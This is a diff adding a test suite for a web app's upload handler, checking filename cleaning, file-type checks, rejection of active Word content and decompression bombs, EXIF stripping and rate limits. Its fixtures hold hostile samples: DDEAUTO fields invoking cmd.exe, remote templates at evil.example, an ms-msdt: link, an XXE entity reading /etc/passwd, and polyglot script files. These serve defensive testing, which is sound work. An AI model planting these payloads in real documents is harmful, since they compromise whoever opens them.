@@ -1,0 +1,327 @@
+/** What comes from outside, through the doors it comes by: proven, named by what it is, weighed, and never handed on as a thing that runs. */
+import { one, rows, sql } from '#server/sql.ts';
+import { startTestApp } from '#tests/support/app.ts';
+import type { Person, TestApp } from '#tests/support/app.ts';
+import { nested, pdf, picture, relationships, word } from '#tests/support/papers.ts';
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+import sharp from 'sharp';
+
+let app: TestApp;
+let paul: Person;
+let claire: Person;
+let ddl: number;
+before(async () => {
+  app = await startTestApp();
+  [paul, claire] = [await app.as('paul'), await app.as('claire')];
+  ({ id: ddl } = await one(
+    app.db,
+    sql<{
+      id: number;
+    }>`select id from request where agid = 1 and sender_uid = ${paul.uid} order by id limit 1`,
+  ));
+});
+after(() => app.close());
+
+function attach(bytes: Buffer, name: string, by = paul) {
+  const form = new FormData();
+  form.set('id_ddl', String(ddl));
+  form.set('message', 'Voici');
+  form.set('myFile', new Blob([new Uint8Array(bytes)]), name);
+  return by.post('ddlchats', form);
+}
+async function taken(bytes: Buffer, name: string) {
+  const answer = await attach(bytes, name);
+  assert.equal(answer.status, 200, `${name}: ${answer.text}`);
+  return answer.body.models[0]! as {
+    file_name: string;
+    file_mime: string;
+    filepath: string;
+    previewpath: string;
+  };
+}
+const refusal = async (bytes: Buffer, name = 'piece.docx') =>
+  (await attach(bytes, name)).body.warnings?.[0]?.type;
+const fetched = async (path: string) => {
+  const response = await fetch(`${app.url}${path}`);
+  return {
+    bytes: Buffer.from(await response.arrayBuffer()),
+    headers: response.headers,
+    status: response.status,
+  };
+};
+const field = (instruction: string, prefix = 'w') =>
+  `<w:p xmlns:${prefix}="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:r><${prefix}:instrText>${instruction}</${prefix}:instrText></w:r></w:p>`;
+
+test('C32 B40 whatever a file is called, it is kept, shown and handed over under the ending of what it is', async () => {
+  const docx = word();
+  for (const [bytes, given, kept] of [
+    [docx, 'facture.hta', 'facture.docx'],
+    [docx, 'facture.exe', 'facture.docx'],
+    [docx, 'facture.exe.docx', 'facture-exe.docx'],
+    [docx, 'facture.pdf.html', 'facture-pdf.docx'],
+    [docx, 'fac\u202Exture\u2066.\u200Bdocx', 'facxture.docx'],
+    [docx, '\u061C\uFEFF\u200Ebail\u200F.scr   ', 'bail.docx'],
+    [docx, 'CON.docx', 'fichier CON.docx'],
+    [docx, 'aux.x.docx', 'aux-x.docx'],
+    [pdf(), 'page.html', 'page.pdf'],
+    [pdf(), 'Contrat n° 12.2027', 'Contrat n° 12.2027.pdf'],
+    [await picture(20, 20, { format: 'jpeg' }), 'IMG_0001.JPEG', 'IMG_0001.JPEG'],
+    [await picture(20, 20), 'photo.svg', 'photo.png'],
+  ] as const) {
+    const file = await taken(bytes, given);
+    assert.equal(file.file_name, kept, given);
+    const { headers } = await fetched(file.filepath);
+    const disposition = headers.get('content-disposition') ?? '';
+    assert.ok(disposition.endsWith(`filename*=UTF-8''${encodeURIComponent(kept)}`), disposition);
+    assert.equal(headers.get('x-content-type-options'), 'nosniff');
+    assert.match(disposition, bytes === docx ? /^attachment;/ : /^inline;/);
+  }
+});
+
+test('C32 C05 a name is never cut inside a character, however long it is', async () => {
+  for (const name of [
+    `${'🏖'.repeat(130)}.pdf`,
+    `${'a'.repeat(199)}🏖.pdf`,
+    `${'👩‍👩‍👧'.repeat(60)}.pdf`,
+    `a${'\u0301'.repeat(900)}.pdf`,
+  ]) {
+    const { file_name: kept, filepath } = await taken(pdf(), name);
+    assert.ok(
+      kept.isWellFormed() && !kept.includes('\uFFFD') && kept.endsWith('.pdf') && kept.length <= 200,
+      kept,
+    );
+    assert.equal(
+      [...kept.replace(/\.pdf$/, '').replaceAll('👩‍👩‍👧', '')].filter((sign) => sign === '\u200D').length,
+      0,
+    );
+    assert.equal((await fetched(filepath)).status, 200);
+  }
+});
+
+test('C32 S11 S12 a zip is opened: one that only holds the words of a Word document is refused, and so is half a PDF', async () => {
+  const words = Buffer.from('PK\u0003\u0004 word/document.xml [Content_Types].xml <script>alert(1)</script>');
+  const docx = word();
+  for (const [what, bytes] of Object.entries({
+    words,
+    'a page with a document behind it': Buffer.concat([
+      Buffer.from('<html><script>alert(1)</script></html>'),
+      docx,
+    ]),
+    'a document with a page behind it': Buffer.concat([
+      docx,
+      Buffer.from('<html><script>alert(1)</script></html>'),
+    ]),
+    'a document cut short': docx.subarray(0, -10),
+    'no main part': word('', { 'word/document.xml': null }),
+    'another kind of document': word('', {
+      '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+    }),
+    'a PDF without its end': Buffer.from('%PDF-1.4 plan'),
+    'a PDF of no version': Buffer.from('%PDF-<script>startxref 0 %%EOF'),
+  }))
+    assert.equal(await refusal(bytes), 'fileTypeRefused', what);
+  const feigned = Buffer.concat([Buffer.from('ffd8ffe00010', 'hex'), words]);
+  assert.equal(await refusal(feigned, 'vue.jpg'), 'pictureUnreadable');
+});
+
+test('S10 S13 a Word document that runs or fetches something is refused, by whatever prefix it says so', async () => {
+  const RELS = 'word/_rels/document.xml.rels';
+  const SETTINGS = 'word/_rels/settings.xml.rels';
+  const declared = (type: string) =>
+    `<?xml version="1.0"?><q:Types xmlns:q="http://schemas.openxmlformats.org/package/2006/content-types"><q:Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><q:Default Extension="bin" ContentType="${type}"/><q:Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></q:Types>`;
+  for (const [what, bytes] of Object.entries({
+    macros: word('', { 'word/vbaProject.bin': 'x' }),
+    'macros of another name': word('', {
+      'word/m.bin': 'x',
+      '[Content_Types].xml': declared('application/vnd.ms-office.vbaProject'),
+    }),
+    'macro-enabled': word('', {
+      '[Content_Types].xml': declared('application/vnd.ms-word.document.macroEnabled.main+xml'),
+    }),
+    'a field': word(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ')),
+    'a field of another prefix': word(field(' DDEAUTO cmd ', 'q')),
+    'a field in two runs': word(field(' DDEA') + field('UTO cmd ')),
+    'a field in letters of numbers': word(field(' &#68;&#x44;E cmd ')),
+    'a field in a literal': word(field(' <![CDATA[INCLUDETEXT "x"]]> ')),
+    'a simple field': word(
+      '<w:p xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:fldSimple q:instr=" LINK Excel.Sheet.8 "/></w:p>',
+    ),
+    'a foreign piece': word(
+      '<q:altChunk xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main" r="1"/>',
+    ),
+    'a template elsewhere': word('', {
+      [SETTINGS]: relationships('attachedTemplate', 'https://evil.example/a.dotm'),
+    }),
+    'a template elsewhere by prefix': word('', {
+      [SETTINGS]: relationships('attachedTemplate', 'https://evil.example/a.dotm', { prefix: 'p' }),
+    }),
+    'a template on a server': word('', {
+      [SETTINGS]: relationships('attachedTemplate', 'file:///\\\\evil.example\\a.dotm'),
+    }),
+    'an object': word('', {
+      [RELS]: relationships('oleObject', 'embeddings/o.bin', { prefix: 'p', mode: 'Internal' }),
+    }),
+    'a program in a package': word('', {
+      [RELS]: relationships('package', 'embeddings/o.docm', { mode: 'Internal' }),
+    }),
+    'a frame': word('', { [RELS]: relationships('frame', 'https://evil.example/', { prefix: 'p' }) }),
+    'a link that runs': word('', { [RELS]: relationships('hyperlink', 'ms-msdt:/id', { prefix: 'p' }) }),
+    'a part of another name': word('', { 'word/settings.txt': `\n  <a><b instr="DDE cmd"/></a>` }),
+  }))
+    assert.equal(await refusal(bytes), 'documentActive', what);
+  for (const [what, bytes] of Object.entries({
+    entities: word('', {
+      'word/document.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
+    }),
+    'another alphabet': word('', { 'word/settings.xml': Buffer.from('\uFEFF<a/>', 'utf16le') }),
+    'another alphabet by its word': word('', {
+      'word/settings.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>',
+    }),
+    'tags that cross': word('<w:p><w:r></w:p></w:r>'),
+    'a name twice': word('<w:p a="1" a="2"/>'),
+  }))
+    assert.equal(await refusal(bytes), 'fileTypeRefused', what);
+  // What everybody's documents hold.
+  for (const [what, bytes] of Object.entries({
+    'a page number and a link': word(
+      field(' PAGE ') + field(' HYPERLINK "https://exemple.fr/link/dde" \\h '),
+      {
+        [RELS]: relationships('hyperlink', 'https://exemple.fr/link'),
+      },
+    ),
+    'the template of their own disk': word('', {
+      [SETTINGS]: relationships('attachedTemplate', 'file:///C:\\Users\\paul\\Normal.dotm'),
+    }),
+    'a chart': word('', {
+      [RELS]: relationships('package', 'embeddings/Feuille.xlsx', { mode: 'Internal' }),
+    }),
+    'signs in an attribute': word(
+      '<w:p title="a &gt; b > c"><!-- <Relationship Type="/oleObject"/> --></w:p>',
+    ),
+  }))
+    assert.equal((await attach(bytes, 'bail.docx')).status, 200, what);
+});
+
+test('S11 ten kilobytes that unfold are refused in words: nested, many, or closely packed', async () => {
+  const words =
+    'Ce document Word est trop volumineux ou trop compliqué pour être vérifié. Enregistrez-le en PDF, puis envoyez-le.';
+  const noise = 30_000;
+  for (const [what, bytes] of Object.entries({
+    'nested paragraphs': nested('paragraphs', 200_000),
+    'nested tables': nested('tables', 20_000),
+    'nested paragraphs under noise': nested('paragraphs', 200_000, noise),
+    'nested tables under noise': nested('tables', 20_000, noise),
+    'two hundred tables': nested('tables', 200),
+    'many paragraphs': word('<w:p/>'.repeat(200_001)),
+    zeros: word('', { 'word/media/a.bmp': Buffer.alloc(39_000_000) }),
+    'more zeros': word('', { 'word/media/a.bmp': Buffer.alloc(45_000_000) }),
+  })) {
+    const answer = await attach(bytes, 'bail.docx');
+    assert.deepEqual([answer.status, answer.body.warnings?.[0]?.message], [422, words], what);
+  }
+  assert.equal(
+    (
+      await attach(
+        word('<w:tbl><w:tr><w:tc>'.repeat(20) + '<w:p/>' + '</w:tc></w:tr></w:tbl>'.repeat(20)),
+        'bail.docx',
+      )
+    ).status,
+    200,
+  );
+});
+
+test('C32 S11 a picture is decoded and written anew: upright, without place or maker, small where the thread shows it', async () => {
+  const given = await picture(1200, 800, { format: 'jpeg', exif: true });
+  assert.ok((await sharp(given).metadata()).exif);
+  const file = await taken(given, 'degat.jpg');
+  const [whole, preview] = [await fetched(file.filepath), await fetched(file.previewpath)];
+  const [seen, small] = [await sharp(whole.bytes).metadata(), await sharp(preview.bytes).metadata()];
+  assert.deepEqual(
+    [seen.format, seen.width, seen.height, seen.exif, seen.orientation],
+    ['jpeg', 800, 1200, undefined, undefined],
+  );
+  assert.deepEqual([small.format, small.width, small.height, small.exif], ['webp', 480, 360, undefined]);
+  assert.equal(preview.headers.get('content-type'), 'image/webp');
+  assert.notEqual(preview.headers.get('etag'), whole.headers.get('etag'));
+
+  const wide = await taken(await picture(6000, 1000), 'plan.png');
+  const { width, height } = await sharp((await fetched(wide.filepath)).bytes).metadata();
+  assert.deepEqual([width, height], [4096, 683]);
+  assert.equal((await taken(await picture(20, 20, { format: 'gif' }), 'rire.gif')).file_name, 'rire.png');
+
+  const tooWide = await attach(await picture(10_000, 10_000), 'mur.png');
+  assert.deepEqual(
+    [tooWide.status, tooWide.body.warnings?.[0]?.message],
+    [422, 'Cette image compte trop de points (10000 × 10000). Réduisez-la avant de l’envoyer.'],
+  );
+  assert.equal(await refusal(given.subarray(0, 600), 'coupee.jpg'), 'pictureUnreadable');
+});
+
+test('C32 what was kept before as it came leaves clean too: its picture, its name, and never as something that runs', async () => {
+  const old = async (bytes: Buffer, name: string, mime: string) => {
+    const { path, sha256 } = await app.app.providers.files.put(bytes, { kind: 'attachment' });
+    const { id } = await one(
+      app.db,
+      sql<{ id: number }>`insert into file (agid, path, name, mime, bytes, sha256, purpose, ddl_id, uid)
+        values (1, ${path}, ${name}, ${mime}, ${bytes.length}, ${sha256}, 'attachment', ${ddl}, ${paul.uid}) returning id`,
+    );
+    const response = await fetch(`${app.url}/api/fileserver/by-id/${id}`, {
+      headers: { authorization: `Bearer ${claire.token}` },
+    });
+    const kept = await one(
+      app.db,
+      sql<{ path: string; mime: string; name: string }>`select path, mime, name from file where id = ${id}`,
+    );
+    return {
+      kept,
+      path,
+      bytes: Buffer.from(await response.arrayBuffer()),
+      disposition: response.headers.get('content-disposition') ?? '',
+      type: response.headers.get('content-type'),
+    };
+  };
+  const photo = await old(await picture(300, 200, { format: 'jpeg', exif: true }), 'vue.jpg', 'image/jpeg');
+  const { exif, width } = await sharp(photo.bytes).metadata();
+  assert.deepEqual([exif, width, photo.kept.path === photo.path], [undefined, 200, false]);
+  await assert.rejects(app.app.providers.files.read(photo.path));
+  const paper = await old(
+    word(),
+    'facture\u202E.hta',
+    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+  );
+  assert.match(paper.disposition, /^attachment; filename="facture\.docx"; filename\*=UTF-8''facture\.docx$/);
+  const feigned = await old(
+    Buffer.from('\u0089PNG\r\n\u001a\n<script>alert(1)</script>', 'latin1'),
+    'vue.png.html',
+    'image/png',
+  );
+  assert.match(feigned.disposition, /^attachment; filename="vue-png\.bin"/);
+  assert.equal(feigned.type, 'application/octet-stream');
+});
+
+test('C32 what one guest sends in a day is weighed, of many at once only those that fit', async () => {
+  await sql`delete from rate_limit`.execute(app.db);
+  const heavy = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(4_900_000, 32), pdf().subarray(9)]);
+  const kept = async () => (await rows(app.db, sql`select from file where uid = ${paul.uid}`)).length;
+  const before = await kept();
+  const statuses: number[] = [];
+  for (let turn = 0; turn < 4; turn += 1) {
+    const answers = await Promise.all([1, 2, 3, 4].map(() => attach(heavy, 'plan.pdf')));
+    for (const { status, body } of answers) {
+      statuses.push(status);
+      if (status === 200) continue;
+      assert.match(
+        body.warnings?.[0]?.message ?? '',
+        /près de 60 Mo[^.]*\. Ce fichier n’a pas été enregistré\. Envoyez-le demain/,
+      );
+    }
+  }
+  assert.deepEqual(
+    [statuses.filter((status) => status === 200).length, statuses.filter((status) => status === 429).length],
+    [12, 4],
+  );
+  assert.equal(await kept(), before + 12);
+  assert.equal((await paul.post('ddlchats', { id_ddl: ddl, message: 'Sans fichier' })).status, 200);
+  assert.equal((await attach(heavy, 'plan.pdf', claire)).status, 200);
+});
